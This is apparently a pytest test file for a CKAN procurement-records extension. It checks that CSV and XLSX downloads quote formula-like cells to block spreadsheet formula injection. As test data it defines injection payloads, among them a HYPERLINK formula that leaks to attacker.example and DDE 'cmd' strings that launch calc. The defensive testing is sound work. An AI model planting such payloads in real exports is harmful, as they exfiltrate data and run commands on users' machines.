"""Downloads that people open in a spreadsheet never carry a live formula
(formula / CSV injection): records CSV and XLSX, the ITAS answer sheet and the
audit trail all go through ckanext.oit.spreadsheet_cells. JSON stays verbatim."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from werkzeug.datastructures import FileStorage

import ckan.plugins.toolkit as tk
from ckan.tests import factories

from ckanext.oit import spreadsheet_cells
from support.jobs import run_jobs
from support.records import HEADER, ROWS, csv_bytes

pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index", "clean_queues")

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak","ดูรายละเอียด")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)"
MINUS_DDE = "-2+3+cmd|' /C calc'!A0"
FULLWIDTH = "＝1+1"


def _hostile_rows() -> list[list[str]]:
    rows = [list(r) for r in ROWS]
    rows[0][1], rows[0][5], rows[0][7] = HYPERLINK, DDE, AT_SUM   # item, supplier, contract number
    rows[1][1], rows[1][5] = MINUS_DDE, FULLWIDTH
    return rows


def _published(office, rows: list[list[str]]) -> dict:
    """A published monthly summary whose rows were loaded by the job (UTF-8: the full-width = is not in TIS-620)."""
    dataset = office.dataset("draft")
    resource = office.act("editor", "resource_create", package_id=dataset["id"], format="CSV", url="",
                          upload=FileStorage(stream=io.BytesIO(csv_bytes(HEADER, rows, "utf-8")), filename="m.csv"))
    run_jobs()
    state = tk.get_action("resource_show")({"ignore_auth": True}, {"id": resource["id"]})["oit_records"]
    assert state["status"] == "loaded" and state["row_count"] == len(rows), state
    office.act("editor", "oit_submit", id=dataset["id"])
    office.act("admin", "oit_approve", id=dataset["id"])
    return tk.get_action("package_show")({"ignore_auth": True}, {"id": dataset["id"]})


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith(spreadsheet_cells.BOM.encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _no_formula(book: openpyxl.Workbook) -> list[openpyxl.cell.Cell]:
    cells = [c for row in book.active.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
    return cells


def _token(user: dict) -> dict:
    return {"Authorization": factories.APIToken(user=user["name"])["token"]}


def test_records_downloads_keep_hostile_text_as_text(office, app):
    dataset = _published(office, _hostile_rows())
    base = f"/oit/records/{office.org['name']}/procurement-monthly-summary"
    query = {"fiscal_year": "2569"}

    header, first, second = _csv(app.get(base + ".csv", query_string=query).get_data())
    column = {name: i for i, name in enumerate(header)}
    assert first[column["งานที่จัดซื้อหรือจัดจ้าง"]] == "'" + HYPERLINK
    assert first[column["ผู้ได้รับการคัดเลือก"]] == "'" + DDE
    assert first[column["เลขที่ของสัญญาหรือข้อตกลงในการซื้อหรือจ้าง"]] == "'" + AT_SUM
    assert second[column["งานที่จัดซื้อหรือจัดจ้าง"]] == "'" + MINUS_DDE
    assert second[column["ผู้ได้รับการคัดเลือก"]] == "'" + FULLWIDTH
    assert first[column["_dataset"]] == dataset["name"]                  # ordinary text untouched
    assert first[column["ราคากลาง"]] == "12500.0"                        # numbers stay numbers
    assert not [c for row in (header, first, second) for c in row if spreadsheet_cells.formula_like(c)]

    book = openpyxl.load_workbook(io.BytesIO(app.get(base + ".xlsx", query_string=query).get_data()))
    cells = {c.value: c for c in _no_formula(book)}
    for text in (HYPERLINK, DDE, AT_SUM, MINUS_DDE, FULLWIDTH):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text   # the text itself, as text
    assert cells[12500].data_type == "n"
    assert cells["วิธีเฉพาะเจาะจง"].quotePrefix is False

    as_json = app.get(base + ".json", query_string=query).json           # for machines: verbatim
    assert {r["procurement_item"] for r in as_json["records"]} == {HYPERLINK, MINUS_DDE}


def test_a_downloaded_csv_uploads_back_unchanged(office, app):
    _published(office, _hostile_rows())
    body = app.get(f"/oit/records/{office.org['name']}/procurement-monthly-summary.csv",
                   query_string={"fiscal_year": "2569"}).get_data()
    again = office.dataset("draft")
    resource = office.act("editor", "resource_create", package_id=again["id"], format="CSV", url="",
                          upload=FileStorage(stream=io.BytesIO(body), filename="again.csv"))
    run_jobs()
    assert tk.get_action("resource_show")({"ignore_auth": True}, {"id": resource["id"]})[
        "oit_records"]["status"] == "loaded"
    rows = tk.get_action("datastore_search")({"ignore_auth": True}, {
        "resource_id": resource["id"], "sort": "item_number"})["records"]
    assert [r["procurement_item"] for r in rows] == [HYPERLINK, MINUS_DDE]      # the apostrophe went
    assert [r["selected_supplier"] for r in rows] == [DDE, FULLWIDTH]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_blank_templates_hold_no_formula(app, fmt):
    body = app.get(f"/oit/tables/procurement-monthly-summary/template.{fmt}").get_data()
    if fmt == "csv":
        rows = _csv(body)
        assert rows and not [c for row in rows for c in row if spreadsheet_cells.formula_like(c)]
    else:
        _no_formula(openpyxl.load_workbook(io.BytesIO(body)))


def test_itas_explanations_are_text_in_csv_and_xlsx(office, app):
    items = tk.get_action("oit_framework_show")({}, {"fiscal_year": 2569})["items"]
    texts = [HYPERLINK, DDE, AT_SUM, MINUS_DDE, "\t=1+1", "\r=1+1", "-", "ไม่มีการจัดซื้อในเดือนนี้"]
    for item, text in zip(items, texts):
        office.act("admin", "oit_itas_explanation_update", id=office.org["id"], fiscal_year="2569",
                   item_key=item["key"], text=text)
    codes = {item["code"]: text for item, text in zip(items, texts)}
    url = f"/oit/{office.org['name']}/2569/itas"

    rows = _csv(app.get(url + ".csv").get_data())
    explanation = rows[0].index("คำอธิบายเพิ่มเติม")
    shown = {row[0]: row[explanation] for row in rows[1:] if row[0] in codes}
    assert shown == {code: ("'" + text if text not in ("-", "ไม่มีการจัดซื้อในเดือนนี้") else text)
                     for code, text in codes.items()}

    book = openpyxl.load_workbook(io.BytesIO(app.get(url + ".xlsx").get_data()))
    _no_formula(book)
    sheet = {row[0].value: row[4] for row in book.active.iter_rows(min_row=2)}
    for code, text in codes.items():
        cell = sheet[code]
        assert cell.value == text and cell.data_type == "s", code
        assert cell.quotePrefix is (text not in ("-", "ไม่มีการจัดซื้อในเดือนนี้")), code


def test_the_audit_csv_download_quotes_a_formula_comment(office, app):
    dataset = office.dataset("pending")
    office.act("admin", "oit_return", id=dataset["id"], comment=HYPERLINK)
    response = app.get(f"/organization/{office.org['name']}/oit-audit.csv", headers=_token(office.users["admin"]))
    assert response.status_code == 200
    rows = _csv(response.get_data())
    comment = rows[0].index("หมายเหตุ")
    assert "'" + HYPERLINK in [row[comment] for row in rows[1:]]
    assert not [c for row in rows for c in row if spreadsheet_cells.formula_like(c)]


def test_numbers_stay_numbers_and_only_formula_like_text_is_quoted():
    rows = [["numbers", -2, -2.5], ["texts", "-2", "-1,250.50"], ["formulas", "-2+3", "=1"],
            ["one sign", "-", "+"]]
    assert _csv(spreadsheet_cells.csv_bytes(rows)) == [
        ["numbers", "-2", "-2.5"], ["texts", "-2", "-1,250.50"], ["formulas", "'-2+3", "'=1"],
        ["one sign", "-", "+"]]
    book = openpyxl.load_workbook(io.BytesIO(spreadsheet_cells.xlsx_bytes(rows, "t")))
    values = [[(c.value, c.data_type, c.quotePrefix) for c in row] for row in book.active.iter_rows()]
    assert values[0][1:] == [(-2, "n", False), (-2.5, "n", False)]
    assert values[1][1:] == [("-2", "s", False), ("-1,250.50", "s", False)]
    assert values[2][1:] == [("-2+3", "s", True), ("=1", "s", True)]
    assert spreadsheet_cells.unquote("'=1") == "=1" and spreadsheet_cells.unquote("'ok") == "'ok"
